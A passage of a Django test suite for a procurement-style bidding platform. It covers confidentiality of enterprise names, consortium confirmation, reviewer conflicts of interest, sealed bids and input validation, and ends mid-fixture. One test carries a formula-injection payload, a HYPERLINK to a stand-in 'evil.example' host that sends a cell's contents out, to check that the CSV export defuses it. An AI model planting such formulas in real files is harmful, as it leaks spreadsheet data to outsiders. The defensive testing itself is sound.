"""Trust findings on challenges: what a viewer sees of a summary-public challenge, consortium places
that count only once confirmed, conflicts of interest at every review step, sealed bids in admin,
the award result, GET without writes, and input that must be refused (400) rather than fail (500)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from accounts.models import Membership, Organization
from challenges import selectors, services
from challenges.models import Bid, Challenge, ExpertConflict, ReviewAssignment, Score
from challenges.services import TransitionError
from core.limits import LONG_TEXT, PARAGRAPH, TITLE
from core.models import AuditEvent
from matching.catalogue.visibility import NeedVisibility
from matching.models import Need, Patent, Result
from tests.factories import (
    BidFactory,
    ChallengeFactory,
    ExpertProfileFactory,
    MembershipFactory,
    NeedFactory,
    NeedIndicatorFactory,
    OrganizationFactory,
    RegionFactory,
    ResultFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

ENTERPRISE_NAME = "庚保密榜单企业"


@pytest.fixture(autouse=True)
def fast_hasher(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def member_of(org, role=Membership.Role.MEMBER):
    return MembershipFactory(organization=org, role=role).user


def after_deadline(challenge, hours: int = 1):
    return time_machine.travel(challenge.bid_deadline + dt.timedelta(hours=hours), tick=False)


def summary_challenge(**kwargs) -> Challenge:
    enterprise = OrganizationFactory(name=ENTERPRISE_NAME)
    need = NeedFactory(
        organization=enterprise,
        confidentiality=Need.Confidentiality.SUMMARY,
        summary="只公开这段摘要",
        budget_max=Decimal("888"),
    )
    return ChallengeFactory(need=need, **kwargs)


# --- #4 a summary-public challenge shows no enterprise name -------------------------------------------


def test_summary_public_challenge_hides_the_enterprise_on_web_list_and_detail(client):
    challenge = summary_challenge()
    listed = client.get(reverse("challenges:list")).content.decode()
    assert challenge.title in listed
    assert ENTERPRISE_NAME not in listed
    detail = client.get(challenge.get_absolute_url())
    assert detail.status_code == 200 and challenge.title in detail.content.decode()
    assert ENTERPRISE_NAME not in detail.content.decode()

    client.force_login(member_of(OrganizationFactory()))
    listed = client.get(reverse("challenges:list")).content.decode()
    assert challenge.title in listed and ENTERPRISE_NAME not in listed
    detail = client.get(challenge.get_absolute_url())
    assert detail.status_code == 200
    assert challenge.title in detail.content.decode()
    assert ENTERPRISE_NAME not in detail.content.decode()

    client.force_login(challenge.created_by)
    assert ENTERPRISE_NAME in client.get(challenge.get_absolute_url()).content.decode()


def test_summary_public_challenge_hides_the_enterprise_in_api_list_and_detail():
    challenge = summary_challenge()
    outsider = api(member_of(OrganizationFactory()))
    listed = outsider.get("/api/v1/challenges/")
    assert listed.status_code == 200
    row = next(r for r in listed.json() if r["uuid"] == str(challenge.uuid))
    assert row["organization"] is None
    assert ENTERPRISE_NAME not in listed.content.decode()
    detail = outsider.get(f"/api/v1/challenges/{challenge.uuid}/")
    assert detail.status_code == 200
    assert detail.json()["organization"] is None
    assert ENTERPRISE_NAME not in detail.content.decode()

    own = api(challenge.created_by).get(f"/api/v1/challenges/{challenge.uuid}/")
    assert own.json()["organization"] == ENTERPRISE_NAME


def test_invitation_email_of_a_summary_public_challenge_names_no_enterprise(monkeypatch):
    sent = []
    monkeypatch.setattr("notifications.services.notify", lambda **kw: sent.append(kw) or object())
    challenge = summary_challenge()
    invited = OrganizationFactory()
    invited_user = member_of(invited)
    services.challenge_invite(challenge=challenge, organization=invited, actor=challenge.created_by)
    mail = [kw for kw in sent if kw["recipient"] == invited_user]
    assert mail and ENTERPRISE_NAME not in str(mail[0]["context"])


def test_challenge_from_a_need_does_not_prefill_the_reward_from_its_budget(client):
    need = NeedFactory(
        confidentiality=Need.Confidentiality.SUMMARY, summary="摘要", budget_max=Decimal("888")
    )
    client.force_login(need.created_by)
    response = client.post(reverse("challenges:create", kwargs={"need_uuid": need.uuid}))
    challenge = Challenge.objects.get(need=need)
    assert response.status_code == 302
    assert challenge.reward_total is None
    edit = client.get(reverse("challenges:edit", kwargs={"uuid": challenge.uuid}))
    assert edit.status_code == 200
    assert "888" not in edit.content.decode()

    created = api(need.created_by).post(
        "/api/v1/challenges/", {"need": str(NeedFactory(organization=need.organization).uuid)}
    )
    assert created.status_code == 201, created.json()
    assert created.json()["reward_total"] is None


def test_publication_requires_a_reward_typed_by_the_enterprise():
    need = NeedFactory()
    NeedIndicatorFactory(need=need)
    challenge = services.challenge_create_from_need(need=need, actor=need.created_by)
    with pytest.raises(ValidationError) as exc:
        services.challenge_publish(challenge=challenge, actor=need.created_by)
    assert "reward_total" in exc.value.message_dict
    challenge.refresh_from_db()
    assert challenge.status == Challenge.Status.DRAFT


# --- #17 the API answers a creation with what was saved ------------------------------------------------


def test_api_create_returns_the_deadline_and_milestones_that_were_posted():
    need = NeedFactory()
    indicator = NeedIndicatorFactory(need=need)
    deadline = (timezone.now() + dt.timedelta(days=45)).replace(microsecond=0)
    due = (timezone.localdate() + dt.timedelta(days=120)).isoformat()
    milestones = [
        {
            "name": "验收",
            "deliverable": "样品",
            "indicator_id": indicator.pk,
            "criterion": "达标",
            "due_date": due,
            "share": "100.00",
        }
    ]
    response = api(need.created_by).post(
        "/api/v1/challenges/",
        {
            "need": str(need.uuid),
            "reward_total": "250",
            "bid_deadline": deadline.isoformat(),
            "milestones": milestones,
        },
        format="json",
    )
    assert response.status_code == 201, response.json()
    body = response.json()
    assert dt.datetime.fromisoformat(body["bid_deadline"]) == deadline
    assert body["reward_total"] == "250.00"
    assert [
        {k: m[k] for k in ("name", "deliverable", "indicator", "criterion", "due_date", "share")}
        for m in body["milestones"]
    ] == [
        {
            **{k: v for k, v in milestones[0].items() if k != "indicator_id"},
            "indicator": indicator.pk,
        }
    ]
    challenge = Challenge.objects.get(uuid=body["uuid"])
    assert challenge.bid_deadline == deadline


# --- #5 an unconfirmed consortium place grants nothing -------------------------------------------------


def _consortium_bid(challenge):
    bid = BidFactory(challenge=challenge)
    stranger = OrganizationFactory(kind=Organization.Kind.INSTITUTION)
    services.bid_update(
        bid=bid,
        actor=bid.created_by,
        consortium=[{"organization": stranger, "role": "中试", "share": "20"}],
    )
    return bid, stranger, member_of(stranger)


def test_unconfirmed_consortium_member_reads_neither_the_terms_nor_the_bid(client):
    challenge = summary_challenge(allow_consortium=True)
    bid, stranger, stranger_user = _consortium_bid(challenge)

    assert (
        selectors.challenge_visibility(challenge=challenge, user=stranger_user)
        == NeedVisibility.SUMMARY
    )
    assert not selectors.bids_visible_to(user=stranger_user).filter(pk=bid.pk).exists()
    assert list(selectors.bids_of_user(user=stranger_user)) == []
    client.force_login(stranger_user)
    page = client.get(challenge.get_absolute_url()).content.decode()
    assert "小试达到指标" not in page and ENTERPRISE_NAME not in page
    assert client.get(bid.get_absolute_url()).status_code == 404
    stranger_api = api(stranger_user)
    assert stranger_api.get(f"/api/v1/bids/{bid.uuid}/").status_code == 404
    terms = stranger_api.get(f"/api/v1/challenges/{challenge.uuid}/").json()
    assert "milestones" not in terms and terms["organization"] is None
    listed = stranger_api.get(f"/api/v1/challenges/{challenge.uuid}/bids/").content.decode()
    assert str(bid.uuid) not in listed and bid.technical_approach not in listed

    # Confirming is what makes the organization a member; then it reads the bid and the terms.
    confirmed = stranger_api.post(f"/api/v1/bids/{bid.uuid}/confirm/")
    assert confirmed.status_code == 200, confirmed.content
    assert bid.members.get(organization=stranger).confirmed_at is not None
    assert selectors.bids_visible_to(user=stranger_user).filter(pk=bid.pk).exists()
    assert (
        selectors.challenge_visibility(challenge=challenge, user=stranger_user)
        == NeedVisibility.FULL
    )


def test_bid_links_only_published_results_of_the_lead_and_confirmed_members():
    challenge = ChallengeFactory(allow_consortium=True)
    bid, stranger, stranger_user = _consortium_bid(challenge)
    lead = bid.created_by
    stranger_draft = ResultFactory(organization=stranger, status=Result.Status.DRAFT)
    stranger_published = ResultFactory(organization=stranger)
    draft_patent = Patent.objects.create(result=stranger_draft, number="CN2024100000001")
    own_draft = ResultFactory(organization=bid.organization, status=Result.Status.DRAFT)
    own_published = ResultFactory(organization=bid.organization)

    for result_ids in ([stranger_draft.pk], [stranger_published.pk], [own_draft.pk]):
        with pytest.raises(ValidationError) as exc:
            services.bid_update(bid=bid, actor=lead, result_ids=result_ids)
        assert "result_ids" in exc.value.message_dict
    with pytest.raises(ValidationError) as exc:
        services.bid_update(bid=bid, actor=lead, patent_ids=[draft_patent.pk])
    assert "patent_ids" in exc.value.message_dict
    assert list(bid.results.all()) == [] and list(bid.patents.all()) == []

    services.bid_update(bid=bid, actor=lead, result_ids=[own_published.pk])
    services.consortium_confirm(member=bid.members.get(organization=stranger), actor=stranger_user)
    services.bid_update(bid=bid, actor=lead, result_ids=[own_published.pk, stranger_published.pk])
    assert set(bid.results.all()) == {own_published, stranger_published}
    with pytest.raises(ValidationError):  # still a draft, confirmed or not
        services.bid_update(bid=bid, actor=lead, result_ids=[stranger_draft.pk])


def test_bid_form_offers_only_linkable_results(client):
    challenge = ChallengeFactory(allow_consortium=True)
    bid, stranger, _user = _consortium_bid(challenge)
    hidden = ResultFactory(organization=stranger, title="未确认成员的成果")
    own_draft = ResultFactory(
        organization=bid.organization, status=Result.Status.DRAFT, title="牵头单位草稿成果"
    )
    client.force_login(bid.created_by)
    page = client.get(reverse("challenges:bid-edit", kwargs={"uuid": challenge.uuid}))
    assert page.status_code == 200
    assert hidden.title not in page.content.decode()
    assert own_draft.title not in page.content.decode()


# --- #6 conflicts of interest at every review step ---------------------------------------------------


def _assigned(challenge, expert=None):
    expert = expert or ExpertProfileFactory()
    services.challenge_close_bidding_if_due(challenge=challenge)
    assignment, conflicts = services.review_assign_expert(
        challenge=challenge, expert=expert, actor=challenge.created_by
    )
    assert assignment is not None and not conflicts
    return assignment


def _score_rows(challenge, bid, value=80):
    return [
        {"bid_id": bid.pk, "criterion_id": c.pk, "value": value} for c in challenge.criteria.all()
    ]


def test_member_of_the_enterprise_is_blocked_as_an_expert():
    challenge = ChallengeFactory()
    BidFactory(challenge=challenge)
    insider = ExpertProfileFactory()
    MembershipFactory(user=insider.user, organization=challenge.organization)
    with after_deadline(challenge):
        services.challenge_close_bidding_if_due(challenge=challenge)
        assignment, conflicts = services.review_assign_expert(
            challenge=challenge, expert=insider, actor=challenge.created_by
        )
    assert assignment is None
    assert [(c.organization, c.kind) for c in conflicts] == [
        (challenge.organization, ExpertConflict.Kind.ENTERPRISE)
    ]
    assert not ReviewAssignment.objects.filter(expert=insider).exists()


def test_expert_who_joins_a_bidder_after_assignment_can_neither_score_nor_submit(client):
    challenge = ChallengeFactory()
    bid = BidFactory(challenge=challenge)
    with after_deadline(challenge):
        assignment = _assigned(challenge)
        expert = assignment.expert
        services.review_save_scores(
            assignment=assignment, actor=expert.user, scores=_score_rows(challenge, bid)
        )
        MembershipFactory(user=expert.user, organization=bid.organization)
        expert.user.refresh_from_db()
        with pytest.raises(TransitionError) as exc:
            services.review_save_scores(
                assignment=assignment, actor=expert.user, scores=_score_rows(challenge, bid, 99)
            )
        assert expert.user.name in exc.value.message and bid.organization.name in exc.value.message
        with pytest.raises(TransitionError):
            services.review_submit(assignment=assignment, actor=expert.user)

        scores = [
            {"bid": str(bid.uuid), "criterion": c.pk, "value": 99} for c in challenge.criteria.all()
        ]
        client_api = api(expert.user)
        put = client_api.put(
            f"/api/v1/reviews/{assignment.uuid}/scores/", {"scores": scores}, format="json"
        )
        assert put.status_code == 409
        assert client_api.post(f"/api/v1/reviews/{assignment.uuid}/submit/").status_code == 409

        client.force_login(expert.user)
        form = {f"s_{bid.pk}_{c.pk}": "99" for c in challenge.criteria.all()}
        page = client.post(
            reverse("challenges:review", kwargs={"uuid": assignment.uuid}), {**form, "submit": "1"}
        )
        assert page.status_code == 200 and "利益冲突" in page.content.decode()
    assignment.refresh_from_db()
    assert assignment.submitted_at is None
    assert set(Score.objects.filter(assignment=assignment).values_list("value", flat=True)) == {80}


def test_award_refuses_scores_of_an_expert_now_in_conflict_until_recused(client):
    challenge = ChallengeFactory()
    client.force_login(challenge.created_by)
    bid = BidFactory(challenge=challenge)
    other = BidFactory(challenge=challenge)
    with after_deadline(challenge):
        clean = _assigned(challenge)
        tainted = _assigned(challenge)
        for a in (clean, tainted):
            rows = _score_rows(challenge, bid) + _score_rows(challenge, other, 60)
            services.review_save_scores(assignment=a, actor=a.expert.user, scores=rows)
            services.review_submit(assignment=a, actor=a.expert.user)
        tainted.expert.affiliations.add(other.organization)
        with pytest.raises(TransitionError) as exc:
            services.challenge_award(
                challenge=challenge, actor=challenge.created_by, winners=[bid], reason="最优"
            )
        assert tainted.expert.user.name in exc.value.message
        challenge.refresh_from_db()
        assert challenge.status == Challenge.Status.REVIEW
        assert not challenge.contracts.exists()

        with pytest.raises(TransitionError):  # an expert without conflict is not removable
            services.review_recuse_expert(assignment=clean, actor=challenge.created_by)
        base = f"/api/v1/challenges/{challenge.uuid}/experts"
        enterprise = api(challenge.created_by)
        assert enterprise.post(f"{base}/{clean.uuid}/recuse/").status_code == 409
        assert api(tainted.expert.user).post(f"{base}/{tainted.uuid}/recuse/").status_code == 404
        page = client.get(reverse("challenges:review-manage", kwargs={"uuid": challenge.uuid}))
        assert "需回避" in page.content.decode()
        response = client.post(
            reverse(
                "challenges:review-recuse",
                kwargs={"uuid": challenge.uuid, "assignment_uuid": tainted.uuid},
            )
        )
        assert response.status_code == 302
        assert not ReviewAssignment.objects.filter(pk=tainted.pk).exists()
        assert ReviewAssignment.objects.filter(pk=clean.pk).exists()
        assert AuditEvent.objects.filter(
            action="challenge.expert_recused", target_id=str(challenge.pk)
        ).exists()
        assert ExpertConflict.objects.filter(
            challenge=challenge, expert=tainted.expert, organization=other.organization
        ).exists()
        services.challenge_award(
            challenge=challenge,
            actor=challenge.created_by,
            winners=[bid],
            reason="最优",
            decline_reason="indicators",
        )
    challenge.refresh_from_db()
    assert challenge.status == Challenge.Status.AWARDED


# --- #8 the bids CSV never carries a live formula --------------------------------------------------


def test_bids_export_neutralises_a_formula_in_the_technical_approach(client):
    challenge = ChallengeFactory()
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'
    bid = BidFactory(challenge=challenge, technical_approach=formula)
    client.force_login(challenge.created_by)
    with after_deadline(challenge):
        export = client.get(reverse("challenges:bids-export", kwargs={"uuid": challenge.uuid}))
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == bid.organization.name)
    assert row[4] == "'" + formula
    assert not any(cell.startswith("=") for r in rows for cell in r)


# --- #11 sealed bids in admin, for superusers too; bid content read-only ----------------------------


def test_superuser_sees_no_bid_content_in_admin_before_the_deadline_and_cannot_edit_after(client):
    challenge = ChallengeFactory()
    bid = BidFactory(challenge=challenge, technical_approach="超级管理员不应看到的技术路线")
    superuser = UserFactory(is_staff=True, is_superuser=True)
    client.force_login(superuser)
    changelist = reverse("admin:challenges_bid_changelist")
    change = reverse("admin:challenges_bid_change", args=[bid.pk])

    listed = client.get(changelist)
    assert listed.status_code == 200
    assert bid.organization.name not in listed.content.decode()
    page = client.get(change, follow=True)
    assert bid.technical_approach not in page.content.decode()
    assert "材料费" not in page.content.decode()

    with after_deadline(challenge):
        listed = client.get(changelist).content.decode()
        assert bid.organization.name in listed
        page = client.get(change)
        assert page.status_code == 200
        html = page.content.decode()
        assert bid.technical_approach in html
        assert 'name="technical_approach"' not in html  # shown, not editable
        client.post(change, {"technical_approach": "管理员改写", "team": "改"})
        assert client.get(reverse("admin:challenges_bid_add")).status_code == 403
        assert (
            client.post(reverse("admin:challenges_bid_delete", args=[bid.pk]), {"post": "yes"})
        ).status_code == 403
    bid.refresh_from_db()
    assert bid.technical_approach == "超级管理员不应看到的技术路线"
    assert Bid.objects.filter(pk=bid.pk).exists()


# --- #16 after the award, only the parties see every bidder and score ---------------------------------


def _award(challenge, bids, winners, scores):
    with after_deadline(challenge):
        assignment = _assigned(challenge)
        rows = [
            r for bid, v in zip(bids, scores, strict=True) for r in _score_rows(challenge, bid, v)
        ]
        services.review_save_scores(
            assignment=assignment, actor=assignment.expert.user, scores=rows
        )
        services.review_submit(assignment=assignment, actor=assignment.expert.user)
        services.challenge_award(
            challenge=challenge,
            actor=challenge.created_by,
            winners=winners,
            reason="指标最优",
            decline_reason="indicators",
        )
    challenge.refresh_from_db()
    return assignment


def test_after_the_award_outsiders_see_only_the_winners(client):
    challenge = ChallengeFactory(award_mode=Challenge.AwardMode.RACE, race_winners=2)
    first, second, loser = (BidFactory(challenge=challenge) for _ in range(3))
    assignment = _award(challenge, [first, second, loser], [first, second], [91, 87, 63])
    loser.refresh_from_db()
    assert loser.score == Decimal("63.00")

    outsider = member_of(OrganizationFactory())
    client.force_login(outsider)
    page = client.get(challenge.get_absolute_url()).content.decode()
    assert first.organization.name in page and second.organization.name in page
    assert loser.organization.name not in page
    assert "63.00" not in page and "91.00" not in page
    rows = api(outsider).get(f"/api/v1/challenges/{challenge.uuid}/ranking/").json()
    assert {r["organization_name"] for r in rows} == {
        first.organization.name,
        second.organization.name,
    }
    assert all(r["score"] is None and r["rank"] is None and r["view"] == "result" for r in rows)

    for party in (loser.created_by, assignment.expert.user, UserFactory(is_staff=True)):
        client.force_login(party)
        page = client.get(challenge.get_absolute_url()).content.decode()
        assert loser.organization.name in page and "63.00" in page, party
        rows = api(party).get(f"/api/v1/challenges/{challenge.uuid}/ranking/").json()
        assert [r["organization_name"] for r in rows] == [
            first.organization.name,
            second.organization.name,
            loser.organization.name,
        ]
        assert rows[2]["score"] == "63.00"


# --- GET never writes -----------------------------------------------------------------------------------


def test_viewing_a_challenge_past_its_deadline_writes_nothing_and_bidding_stays_refused(
    client, monkeypatch
):
    sent = []
    monkeypatch.setattr("notifications.services.notify", lambda **kw: sent.append(kw) or object())
    challenge = ChallengeFactory()
    bid = BidFactory(challenge=challenge)
    lab = OrganizationFactory(kind=Organization.Kind.INSTITUTION)
    lab_user = member_of(lab, Membership.Role.OWNER)
    before = AuditEvent.objects.count()
    with after_deadline(challenge):
        client.force_login(challenge.created_by)
        for name in ("detail", "bids", "review-manage"):
            page = client.get(reverse(f"challenges:{name}", kwargs={"uuid": challenge.uuid}))
            assert page.status_code == 200, name
        detail = client.get(challenge.get_absolute_url()).content.decode()
        assert "评审与定榜" in detail  # shown as closed for bidding without a write
        enterprise = api(challenge.created_by)
        shown = enterprise.get(f"/api/v1/challenges/{challenge.uuid}/").json()
        assert shown["status"] == Challenge.Status.REVIEW
        assert enterprise.get(f"/api/v1/challenges/{challenge.uuid}/bids/").status_code == 200
        client.force_login(lab_user)
        assert client.get(reverse("challenges:list")).status_code == 200
        form = client.get(reverse("challenges:bid-edit", kwargs={"uuid": challenge.uuid}))
        assert form.status_code in (200, 302)

        challenge.refresh_from_db()
        assert challenge.status == Challenge.Status.OPEN
        assert AuditEvent.objects.count() == before
        assert sent == []

        # The service guards check the deadline themselves.
        refused = api(lab_user).post(
            f"/api/v1/challenges/{challenge.uuid}/bids/",
            {"organization": str(lab.uuid), "technical_approach": "迟到的方案", "team": "团队"},
            format="json",
        )
        assert refused.status_code == 409
        assert not Bid.objects.filter(organization=lab).exists()
        with pytest.raises(TransitionError):
            services.bid_update(bid=bid, actor=bid.created_by, team="截止后修改")

        # A write by the enterprise (assigning an expert) closes bidding on the way.
        client.force_login(challenge.created_by)
        response = client.post(
            reverse("challenges:review-manage", kwargs={"uuid": challenge.uuid}),
            {"expert": ExpertProfileFactory().pk},
        )
        assert response.status_code == 302
    challenge.refresh_from_db()
    assert challenge.status == Challenge.Status.REVIEW
    assert challenge.assignments.count() == 1
    assert AuditEvent.objects.filter(
        action="challenge.transition", target_id=str(challenge.pk), to_state="review"
    ).exists()


# --- #12 bad input is a 400 or a form error, never a 500 -------------------------------------------


def _draft(need=None) -> Challenge:
    need = need or NeedFactory()
    NeedIndicatorFactory(need=need)
    return services.challenge_create_from_need(need=need, actor=need.created_by)


def test_patch_with_an_unknown_region_is_a_400_and_writes_nothing():
    challenge = _draft()
    region = RegionFactory()
    before = AuditEvent.objects.count()
    response = api(challenge.created_by).patch(
        f"/api/v1/challenges/{challenge.uuid}/",
        {"title": "改名", "eligible_region_ids": [region.pk, 987654321]},
        format="json",
    )
    assert response.status_code == 400
    assert "eligible_region_ids" in response.json()
    challenge.refresh_from_db()
    assert challenge.title != "改名"
    assert not challenge.eligible_regions.exists()
    assert AuditEvent.objects.count() == before
    ok = api(challenge.created_by).patch(
        f"/api/v1/challenges/{challenge.uuid}/", {"eligible_region_ids": [region.pk]}, format="json"
    )
    assert ok.status_code == 200
    assert list(challenge.eligible_regions.all()) == [region]


NUL = "含\x00空字符"


def test_nul_bytes_in_challenge_and_bid_text_are_refused_over_the_api():
    challenge = ChallengeFactory(allow_consortium=True)
    bid = BidFactory(challenge=challenge)
    draft = _draft()
    indicator = challenge.indicators.first()
    lab = OrganizationFactory(kind=Organization.Kind.INSTITUTION)
    lab_user = member_of(lab, Membership.Role.OWNER)
    before = AuditEvent.objects.count()
    enterprise, bidder = api(draft.created_by), api(bid.created_by)
    calls = [
        (enterprise.patch, f"/api/v1/challenges/{draft.uuid}/", {"title": NUL}),
        (enterprise.patch, f"/api/v1/challenges/{draft.uuid}/", {"intro": NUL}),
        (enterprise.patch, f"/api/v1/challenges/{draft.uuid}/", {"reward_split": NUL}),
        (
            enterprise.patch,
            f"/api/v1/challenges/{draft.uuid}/",
            {"criteria": [{"name": "维度", "weight": 100, "description": NUL}]},
        ),
        (
            enterprise.post,
            "/api/v1/challenges/",
            {"need": str(NeedFactory(organization=draft.organization).uuid), "intro": NUL},
        ),
        (
            api(challenge.created_by).post,
            f"/api/v1/challenges/{challenge.uuid}/cancel/",
            {"reason": NUL},
        ),
        (bidder.patch, f"/api/v1/bids/{bid.uuid}/", {"technical_approach": NUL}),
        (bidder.patch, f"/api/v1/bids/{bid.uuid}/", {"team": NUL}),
        (
            bidder.patch,
            f"/api/v1/bids/{bid.uuid}/",
            {"indicator_responses": [{"indicator_id": indicator.pk, "approach": NUL}]},
        ),
        (
            bidder.patch,
            f"/api/v1/bids/{bid.uuid}/",
            {"budget_items": [{"item": "材料", "amount": "1", "note": NUL}]},
        ),
        (
            bidder.patch,
            f"/api/v1/bids/{bid.uuid}/",
            {"consortium": [{"organization": str(lab.uuid), "role": NUL, "share": "10"}]},
        ),
        (bidder.post, f"/api/v1/bids/{bid.uuid}/withdraw/", {"reason": NUL}),
        (
            api(lab_user).post,
            f"/api/v1/challenges/{challenge.uuid}/bids/",
            {"organization": str(lab.uuid), "technical_approach": NUL, "team": "团队"},
        ),
    ]
    for method, path, body in calls:
        response = method(path, body, format="json")
        assert response.status_code == 400, (path, body, response.status_code)
    bid.refresh_from_db()
    draft.refresh_from_db()
    challenge.refresh_from_db()
    assert "\x00" not in bid.technical_approach + bid.team + draft.title + draft.intro
    assert bid.status == Bid.Status.SUBMITTED and challenge.status == Challenge.Status.OPEN
    assert not Bid.objects.filter(organization=lab).exists()
    assert AuditEvent.objects.count() == before


def test_nul_bytes_in_web_forms_are_form_errors(client):
    challenge = ChallengeFactory()
    bid = BidFactory(challenge=challenge)
    client.force_login(bid.created_by)
    form_url = reverse("challenges:bid-edit", kwargs={"uuid": challenge.uuid})
    data = {
        "technical_approach": NUL,
        "team": "团队",
        "qualification_statement": "",
        "budget-TOTAL_FORMS": "1",
        "budget-INITIAL_FORMS": "0",
        "budget-0-item": "材料费",
        "budget-0-amount": "100",
        "consortium-TOTAL_FORMS": "0",
        "consortium-INITIAL_FORMS": "0",
    }
    response = client.post(form_url, data)
    assert response.status_code == 200
    response = client.post(
        reverse("challenges:bid-withdraw", kwargs={"uuid": bid.uuid}), {"reason": NUL}
    )
    assert response.status_code in (200, 302)
    bid.refresh_from_db()
    assert bid.status == Bid.Status.SUBMITTED
    assert "\x00" not in bid.technical_approach

    client.force_login(challenge.created_by)
    response = client.post(
        reverse("challenges:cancel", kwargs={"uuid": challenge.uuid}), {"reason": NUL}
    )
    assert response.status_code in (200, 302)
    challenge.refresh_from_db()
    assert challenge.status == Challenge.Status.OPEN


# --- #19 text size caps --------------------------------------------------------------------------------


def test_over_long_text_is_a_400_over_the_api_and_writes_nothing():
    challenge = ChallengeFactory()
    bid = BidFactory(challenge=challenge)
    draft = _draft()
    indicator = challenge.indicators.first()
    before = AuditEvent.objects.count()
    bidder, enterprise = api(bid.created_by), api(draft.created_by)
    calls = [
        (bidder.patch, f"/api/v1/bids/{bid.uuid}/", "technical_approach", "路" * (LONG_TEXT + 1)),
        (bidder.patch, f"/api/v1/bids/{bid.uuid}/", "team", "人" * (PARAGRAPH + 1)),
        (
            bidder.patch,
            f"/api/v1/bids/{bid.uuid}/",
            "indicator_responses",
            [{"indicator_id": indicator.pk, "approach": "法" * (PARAGRAPH + 1)}],
        ),
        (enterprise.patch, f"/api/v1/challenges/{draft.uuid}/", "intro", "说" * (LONG_TEXT + 1)),
        (
            enterprise.patch,
            f"/api/v1/challenges/{draft.uuid}/",
            "required_qualifications",
            "资" * (PARAGRAPH + 1),
        ),
        (
            api(challenge.created_by).post,
            f"/api/v1/challenges/{challenge.uuid}/cancel/",
            "reason",
            "因" * (PARAGRAPH + 1),
        ),
        (bidder.post, f"/api/v1/bids/{bid.uuid}/withdraw/", "reason", "因" * (PARAGRAPH + 1)),
    ]
    for method, path, field, value in calls:
        response = method(path, {field: value}, format="json")
        assert response.status_code == 400, (path, field, response.status_code)
        assert field in response.json(), response.json()
    bid.refresh_from_db()
    draft.refresh_from_db()
    challenge.refresh_from_db()
    assert len(bid.technical_approach) < LONG_TEXT and len(bid.team) < PARAGRAPH
    assert draft.intro != "说" * (LONG_TEXT + 1)
    assert bid.status == Bid.Status.SUBMITTED and challenge.status == Challenge.Status.OPEN
    assert AuditEvent.objects.count() == before


def test_text_caps_are_enforced_by_the_services_too():
    challenge = ChallengeFactory()
    bid = BidFactory(challenge=challenge)
    indicator = challenge.indicators.first()
    with pytest.raises(ValidationError) as exc:
        services.bid_update(
            bid=bid,
            actor=bid.created_by,
            indicator_responses=[
                {"indicator_id": i.pk, "approach": "法" * (PARAGRAPH + (i == indicator))}
                for i in challenge.indicators.all()
            ],
        )
    assert "indicator_responses" in exc.value.message_dict
    with pytest.raises(ValidationError) as exc:
        services.bid_update(
            bid=bid, actor=bid.created_by, technical_approach="路" * (LONG_TEXT + 1)
        )
    assert "technical_approach" in exc.value.message_dict
    assert bid.indicator_responses.get(indicator=indicator).approach == "包覆改性"
    assert Challenge._meta.get_field("title").max_length <= TITLE


# --- the challenge matrix: every challenge route, for every viewer below FULL --------------------------

SECRET_DESCRIPTION = "机密问题描述XRAY"
SECRET_BUDGET = "97531"


@pytest.fixture
def summary_world():
    """Two challenges of a summary-public need of ENTERPRISE_NAME: one open with a bid (and an
    unconfirmed consortium place), one awarded and in progress (assignment, contract milestones)."""
    enterprise = OrganizationFactory(name=ENTERPRISE_NAME)

    def need():
        return NeedFactory(
            organization=enterprise,
            confidentiality=Need.Confidentiality.SUMMARY,
            summary="只公开这段摘要",
            description=SECRET_DESCRIPTION,
            budget_max=Decimal(SECRET_BUDGET),
        )

    open_ = ChallengeFactory(need=need(), allow_consortium=True)
    bid, stranger, stranger_user = _consortium_bid(open_)
    running = ChallengeFactory(need=need())
    won = BidFactory(challenge=running)
    assignment = _award(running, [won], [won], [88])
    services.challenge_start(challenge=running, actor=running.created_by)
    from challenges.models import ContractMilestone

    cm = ContractMilestone.objects.filter(contract__challenge=running).first()
    from tests.factories import MatchFactory

    kwargs = {
        "challenge": {"uuid": open_.uuid},
        "running": {"uuid": running.uuid},
        "bid": {"uuid": bid.uuid},
        "assignment": {"uuid": assignment.uuid},
        "milestone": {"uuid": cm.uuid},
    }
    routes = {
        "challenges:list": {},
        "challenges:mine": {},
        "challenges:create": {"need_uuid": open_.need.uuid},
        "challenges:invite-from-match": {"match_id": MatchFactory(need=open_.need).pk},
        "challenges:bid-attachment": {"uuid": bid.uuid, "attachment_uuid": bid.uuid},
        "challenges:consortium-confirm": {"pk": bid.members.get(is_lead=False).pk},
        "challenges:review-recuse": {"uuid": running.uuid, "assignment_uuid": assignment.uuid},
        "api:challenge-expert-recuse": {"uuid": running.uuid, "assignment_uuid": assignment.uuid},
        "api:challenge-list": {},
        "api:challenge-mine": {},
        "api:bid-list": {},
        "api:review-list": {},
    }
    for name in (
        "detail edit publish cancel start invite bids bids-export review-manage award "
        "downselect bid-edit invitation-answer quality"
    ).split():
        routes[f"challenges:{name}"] = kwargs["challenge"]
    for name in ("execution",):
        routes[f"challenges:{name}"] = kwargs["running"]
    for name in (
        "detail publish close-bidding cancel award start downselect bids experts invitations "
        "my-invitation"
    ).split():
        routes[f"api:challenge-{name}"] = kwargs["challenge"]
    for name in ("ranking", "contracts"):
        routes[f"api:challenge-{name}"] = kwargs["running"]
    for name in "bid-detail bid-submit bid-withdraw bid-attachment-add bid-decline".split():
        routes[f"challenges:{name}"] = kwargs["bid"]
    for name in "detail submit withdraw confirm decline".split():
        routes[f"api:bid-{name}"] = kwargs["bid"]
    routes["challenges:review"] = kwargs["assignment"]
    routes["api:review-scores"] = kwargs["assignment"]
    routes["api:review-submit"] = kwargs["assignment"]
    for name in ("challenges:milestone-submit", "challenges:milestone-decide"):
        routes[name] = kwargs["milestone"]
    for name in ("submit", "accept", "reject"):
        routes[f"api:milestone-{name}"] = kwargs["milestone"]
    for name in ("contract-docx", "contract-pdf", "contract-registration"):
        routes[f"challenges:{name}"] = {"uuid": cm.contract.uuid}
    invited = OrganizationFactory()
    services.challenge_invite(challenge=open_, organization=invited, actor=open_.created_by)
    viewers = {
        "anonymous": None,
